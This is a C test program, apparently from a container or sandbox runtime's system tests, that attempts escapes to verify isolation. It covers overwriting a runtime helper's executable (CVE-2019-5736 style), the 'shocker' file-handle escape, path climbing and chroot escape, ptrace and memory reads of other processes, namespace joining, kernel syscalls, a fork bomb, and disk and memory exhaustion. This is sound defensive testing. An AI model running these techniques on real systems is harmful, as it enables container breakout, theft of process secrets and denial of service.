/* tests/system/attacker.c - what a task must not be able to do, done as well as it can be. Linked statically, so that it runs in
 * any root. Exits with 0 when it could, else with 1 and why on stderr.
 *
 *     overwrite FILE      write to a program: as it is, and by the descriptor of one that is executed
 *     hunt SECONDS        get hold of the program of a helper that joins the container
 *     descriptors         is anything open but 0, 1 and 2, or is one of these a folder?
 *     climb FILE          is there a way up from its folder, or from a descriptor, to that file of the host (without the first /)?
 *     trace PID           by ptrace, its memory, its descriptors
 *     signal PID          harmlessly
 *     limit PID           to no descriptor
 *     join PID            its namespaces
 *     device b|c M N      make a node and open it
 *     handle FOLDER       a file of that file system by its handle (the number of its inode)
 *     calls               system calls that change the kernel, or reach what it does not know by names
 *     users               a user namespace of its own
 *     listen PORT         and stay
 *     forks, memory, disk as much as there is: forks says how many it got
 *     swap A B SECONDS    exchange two names, all the time
 *     plant A B SECONDS   make A a link to B, all the time
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MIB ((size_t)1024 * 1024)

/* True: it could. */
static int could(const char *what, long rc)
{
    if (rc < 0) {
        fprintf(stderr, "%s: %s\n", what, strerror(errno));
        return 0;
    }
    printf("could %s\n", what);
    fflush(stdout);
    return 1;
}

/* Whoever is told that the argument is wrong would have been let. */
static long let(long rc)
{
    return rc < 0 && errno != EPERM && errno != EACCES && errno != ENOSYS ? 0 : rc;
}

static int64_t now_ms(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return (int64_t)now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

/* --- helpers ---------------------------------------------------------------------------------------- */

static int overwrite(const char *file)
{
    char again[64];
    int done = 0, fd, held = open(file, O_PATH);

    fd = open(file, O_WRONLY);
    done += could("open for writing", fd < 0 ? fd : write(fd, "x", 1));
    fd = open(file, O_RDWR | O_TRUNC);
    done += could("truncate", fd);
    done += could("change its mode", chmod(file, 0777));
    snprintf(again, sizeof(again), "/proc/self/fd/%d", held);
    fd = held < 0 ? -1 : open(again, O_WRONLY);
    done += could("open again by a descriptor", fd);
    return done;
}

/* As CVE-2019-5736: between a helper's arrival and its exec its program can be had. Only that: what else runs here is an
 * ordinary file, which may be its own. 1: it could; 0: it was a helper, and could not; -1: it is none. */
static int try_helper(const char *pid)
{
    char path[300], name[32] = "";
    int fd;

    snprintf(path, sizeof(path), "/proc/%s/comm", pid);
    fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    if (read(fd, name, sizeof(name) - 1) < 0 || strncmp(name, "proffer", 7) != 0) {
        close(fd);
        return -1;
    }
    close(fd);
    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    fd = open(path, O_RDONLY); /* to be written to once nobody executes it any more */
    if (fd < 0)
        return 0;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    memset(name, 0, sizeof(name));
    fd = readlink(path, name, sizeof(name) - 1) < 0 || strncmp(name, "/memfd:", 7) != 0 ? -1 : 0;
    close(atoi(path + strlen("/proc/self/fd/")));
    return fd < 0 ? 0 : could("hold its program", 0); /* else it was the command's by then */
}

static int hunt(int seconds)
{
    const int64_t until_ms = now_ms() + seconds * 1000;
    int done = 0, seen = 0;

    while (now_ms() < until_ms) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;

        while (proc && (entry = readdir(proc))) {
            int rc;

            if (*entry->d_name < '0' || *entry->d_name > '9' || atoi(entry->d_name) < 3)
                continue; /* its init, which is always there, and itself */
            rc = try_helper(entry->d_name);
            seen += rc >= 0;
            done += rc > 0;
        }
        if (proc)
            closedir(proc);
    }
    printf("saw %d\n", seen);
    return done;
}

/* --- descriptors and folders ------------------------------------------------------------------------ */

static int descriptors(void)
{
    struct stat info;
    int done = 0;

    for (int fd = 0; fd < 4096; fd++)
        if (fstat(fd, &info) == 0 && (fd > 2 || S_ISDIR(info.st_mode)))
            done += could("use a descriptor that was left", fd);
    return done;
}

static int climb_from(int fd, const char *file)
{
    char path[4096] = "";

    for (int i = 0; i < 64; i++)
        strcat(path, "../");
    strcat(path, file);
    return could("climb", openat(fd, path, O_RDONLY));
}

static int climb(const char *file)
{
    char path[4096];
    int done = climb_from(AT_FDCWD, file);

    for (int fd = 0; fd < 16; fd++)
        done += fcntl(fd, F_GETFD) >= 0 ? climb_from(fd, file) : 0;
    for (int pid = 1; pid < 8; pid++) {
        snprintf(path, sizeof(path), "/proc/%d/root/%s", pid, file);
        done += could("climb by the root of a process", open(path, O_RDONLY));
        snprintf(path, sizeof(path), "/proc/%d/cwd/../../../../../../../../%s", pid, file);
        done += could("climb by the folder of a process", open(path, O_RDONLY));
    }
    done += could("leave by chroot", chroot("/proc/1/root"));
    return done;
}

/* --- others ----------------------------------------------------------------------------------------- */

static int trace(pid_t pid)
{
    char path[64], byte;
    struct iovec mine = {&byte, 1}, its = {(void *)0x400000, 1};
    int done = 0, fd;

    if (could("attach", ptrace(PTRACE_SEIZE, pid, NULL, NULL))) {
        done++;
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
    done += could("read its memory", process_vm_readv(pid, &mine, 1, &its, 1, 0));
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    done += could("open its memory", open(path, O_RDONLY));
    snprintf(path, sizeof(path), "/proc/%d/environ", pid);
    done += could("open its environment", open(path, O_RDONLY));
    fd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pid != 1) /* which is its own to see */
        done += could("have a handle of it", fd);
    done += could("take a descriptor of it", syscall(SYS_pidfd_getfd, fd, 0, 0));
    return done;
}

static int limit(pid_t pid)
{
    const struct rlimit none = {0, 0};

    return could("limit it", prlimit(pid, RLIMIT_NOFILE, &none, NULL));
}

static int join(pid_t pid)
{
    static const char *const kinds[] = {"mnt", "pid", "net", "ipc", "uts", "user", "cgroup"};
    char path[64];
    int done = 0;

    for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
        int fd;

        snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, kinds[i]);
        fd = open(path, O_RDONLY);
        done += could(path, fd < 0 ? fd : setns(fd, 0));
    }
    return done;
}

/* --- the kernel ------------------------------------------------------------------------------------- */

/* That there is no such device says that it may be opened. */
static int device(const char *kind, int number, int minor_number)
{
    char name[64];
    int fd, done;

    snprintf(name, sizeof(name), "node-%d", getpid());
    if (mknod(name, (*kind == 'b' ? S_IFBLK : S_IFCHR) | 0666,
              makedev((unsigned)number, (unsigned)minor_number)) < 0)
        return could("make a node", -1);
    fd = open(name, O_RDONLY | O_NONBLOCK);
    done = could("open a device", fd < 0 && errno == ENXIO ? 0 : fd);
    unlink(name);
    return done;
}

/* As the "shocker" of 2014: the root folder of a file system is inode 2, or 128. */
static int handle(const char *folder)
{
    static const uint64_t roots[] = {2, 128, 64, 1};
    int done = 0, fd = open(folder, O_RDONLY | O_DIRECTORY);

    for (size_t i = 0; i < sizeof(roots) / sizeof(roots[0]); i++) {
        union {
            struct file_handle handle;
            char bytes[sizeof(struct file_handle) + 8];
        } at = {.handle = {.handle_bytes = 8, .handle_type = 1}};

        memcpy(at.handle.f_handle, &roots[i], 8);
        done += could("open by a handle", open_by_handle_at(fd, &at.handle, O_RDONLY));
    }
    return done;
}

static int calls(void)
{
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof(event)};
    union bpf_attr map = {
        .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    char params[256] = {0};
    int done = 0;

    done += could("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof(map)));
    done += could("perf_event_open", syscall(SYS_perf_event_open, &event, -1, 0, -1, 0));
    done += could("userfaultfd", syscall(SYS_userfaultfd, 0));
    done += could("io_uring_setup", syscall(SYS_io_uring_setup, 1, params));
    done += could("add_key", syscall(SYS_add_key, "user", "x", "x", 1, -3));
    done += could("keyctl", let(syscall(SYS_keyctl, 0, -3, 1)));
    done += could("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    done += could("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    done += could("mount", mount("none", "/tmp", "tmpfs", 0, ""));
    done += could("mount /proc", mount("proc", "/tmp", "proc", 0, ""));
    done += could("bind", mount("/", "/tmp", NULL, MS_BIND, NULL));
    done += could("pivot_root", let(syscall(SYS_pivot_root, ".", ".")));
    done += could("unshare mounts", unshare(CLONE_NEWNS));
    done += could("swapon", let(syscall(SYS_swapon, "/dev/null", 0)));
    done += could("syslog", syscall(SYS_syslog, 3, params, sizeof(params)));
    done += could("load a module", syscall(SYS_finit_module, 0, "", 0));
    return done;
}

/* --- too much --------------------------------------------------------------------------------------- */

static int listen_on(int port)
{
    const struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    if (bind(fd, (const struct sockaddr *)&at, sizeof(at)) < 0 || listen(fd, 1) < 0)
        return could("listen", -1);
    printf("listening\n");
    fflush(stdout);
    sleep(30);
    return could("keep it", 0);
}

/* Who gets no more stays until all is done. */
static int forks(void)
{
    int count = 0;

    while (count < 2000) {
        pid_t pid = fork();

        if (pid == 0) {
            pause();
            _exit(0);
        }
        if (pid < 0)
            break;
        count++;
    }
    printf("%d\n", count);
    return count >= 1000;
}

static int eat_memory(void)
{
    for (size_t i = 0; i < 4096; i++) {
        char *memory = mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

        if (memory == MAP_FAILED)
            break;
        memset(memory, 'x', MIB);
    }
    return could("have 4 GiB", 0);
}

/* Not faster than it is looked for. */
static int eat_disk(void)
{
    static char block[MIB];
    int fd = open("bomb", O_WRONLY | O_CREAT | O_APPEND, 0600);

    memset(block, 'x', sizeof(block));
    for (int i = 0; i < 600; i++) {
        if (write(fd, block, sizeof(block)) < 0)
            return could("write", -1);
        usleep(50000);
    }
    return could("write 600 MiB", 0);
}

static int swap(const char *one, const char *other, int seconds)
{
    const int64_t until_ms = now_ms() + seconds * 1000;

    while (now_ms() < until_ms)
        if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0)
            return could("swap", -1);
    return could("swap", 0);
}

static int plant(const char *name, const char *target, int seconds)
{
    const int64_t until_ms = now_ms() + seconds * 1000;
    int count = 0;

    while (now_ms() < until_ms)
        count += symlink(target, name) == 0;
    fprintf(stderr, "planted %d\n", count);
    return 0;
}

/* ---------------------------------------------------------------------------------------------------- */

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "", *one = argc > 2 ? argv[2] : "0";
    int done = 0;

    signal(SIGPIPE, SIG_IGN);
    if (!strcmp(what, "overwrite"))
        done = overwrite(one);
    else if (!strcmp(what, "hunt"))
        done = hunt(atoi(one));
    else if (!strcmp(what, "descriptors"))
        done = descriptors();
    else if (!strcmp(what, "climb"))
        done = climb(one);
    else if (!strcmp(what, "trace"))
        done = trace(atoi(one));
    else if (!strcmp(what, "signal"))
        done = could("signal", kill(atoi(one), SIGURG));
    else if (!strcmp(what, "limit"))
        done = limit(atoi(one));
    else if (!strcmp(what, "join"))
        done = join(atoi(one));
    else if (!strcmp(what, "device") && argc > 4)
        done = device(one, atoi(argv[3]), atoi(argv[4]));
    else if (!strcmp(what, "handle"))
        done = handle(one);
    else if (!strcmp(what, "calls"))
        done = calls();
    else if (!strcmp(what, "users"))
        done = could("be in a user namespace of its own", unshare(CLONE_NEWUSER));
    else if (!strcmp(what, "listen"))
        done = listen_on(atoi(one));
    else if (!strcmp(what, "forks"))
        done = forks();
    else if (!strcmp(what, "memory"))
        done = eat_memory();
    else if (!strcmp(what, "disk"))
        done = eat_disk();
    else if (!strcmp(what, "plant") && argc > 4)
        done = plant(one, argv[3], atoi(argv[4]));
    else if (!strcmp(what, "swap") && argc > 4)
        done = swap(one, argv[3], atoi(argv[4]));
    else
        return 2;
    return done ? 0 : 1;
}
